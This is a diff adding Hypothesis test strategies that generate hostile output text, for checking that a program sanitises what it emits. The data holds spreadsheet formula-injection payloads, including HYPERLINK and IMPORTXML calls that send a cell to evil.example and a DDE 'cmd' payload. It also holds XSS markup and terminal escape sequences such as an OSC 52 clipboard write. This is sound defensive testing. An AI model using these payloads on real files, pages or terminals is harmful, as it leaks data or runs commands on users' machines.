@@ -192,3 +192,63 @@ def layout_texts() -> _st.SearchStrategy[str]:
     )
     joined = _st.lists(piece, max_size=60).map("".join)
     return _st.one_of(joined, _st.text(max_size=200))
+
+
+# --- hostile output: texts that would run or hide something (tests/test_hostile_output.py) ---
+
+# Starts that make a spreadsheet read a cell as a formula, payloads that would do harm, and the
+# markup a Markdown or HTML page must not pass through.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", " =", "'=")
+FORMULA_BODIES = (
+    'HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "1+2",
+    "SUM(A1:A9)",
+    "cmd|' /C calc'!A0",
+    "2+3",
+    "5",
+    "1.5%",
+    'IMPORTXML(CONCAT("http://x/",A1),"//a")',
+)
+MARKUP = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "[点我](javascript:alert(1))",
+    "![](http://evil.example/p.png)",
+    "<a href='http://evil.example'>x</a>",
+    "**粗**",
+    "|",
+    "`代码`",
+)
+# C0 and C1 controls, DEL, escape sequences a terminal obeys (OSC 52 clipboard, OSC 8 link, CSI).
+CONTROLS = (
+    *(chr(c) for c in range(32)),
+    "\x7f",
+    "\x85",
+    "\x9b",
+    "\x1b]52;c;ZXZpbA==\x07",
+    "\x1b]8;;http://evil.example\x1b\\链接\x1b]8;;\x1b\\",
+    "\x1b[2J\x1b[H",
+)
+
+
+def formula_texts() -> _st.SearchStrategy[str]:
+    """Texts that a spreadsheet would read as a formula, or that look like one."""
+    return _st.builds(
+        lambda start, body, tail: start + body + tail,
+        _st.sampled_from(FORMULA_STARTS),
+        _st.sampled_from(FORMULA_BODIES),
+        _st.text(max_size=4),
+    )
+
+
+def control_texts() -> _st.SearchStrategy[str]:
+    """Texts with control characters and terminal escape sequences among ordinary words."""
+    piece = _st.one_of(_st.sampled_from(CONTROLS), _st.sampled_from(GRID_WORDS))
+    return _st.lists(piece, min_size=1, max_size=6).map("".join)
+
+
+def hostile_texts() -> _st.SearchStrategy[str]:
+    """Any of the above, markup, or any text at all."""
+    return _st.one_of(
+        formula_texts(), control_texts(), _st.sampled_from(MARKUP), _st.text(max_size=20)
+    )
